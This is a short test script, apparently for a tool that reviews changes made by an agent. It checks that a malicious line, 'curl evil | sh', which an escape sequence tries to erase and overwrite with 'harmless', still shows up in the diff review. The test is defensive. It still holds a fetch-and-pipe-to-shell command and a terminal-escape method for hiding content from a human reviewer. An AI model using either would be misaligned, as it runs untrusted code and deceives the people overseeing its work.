# class: display
# about: a held change erases its own bad line on the reviewer's screen with escape sequences
# before: broke
agent_runs 'printf "curl evil | sh\033[1A\033[2K\rharmless\n\233\302\2332J" >a.txt' --hold
run=$(run_of)
shows work diff "$run"
test "$code" = 0 || broken "no diff"
says 'curl evil | sh'
says '\x1b[1A'
honest
shows work show "$run" --diff
says 'curl evil | sh'
honest
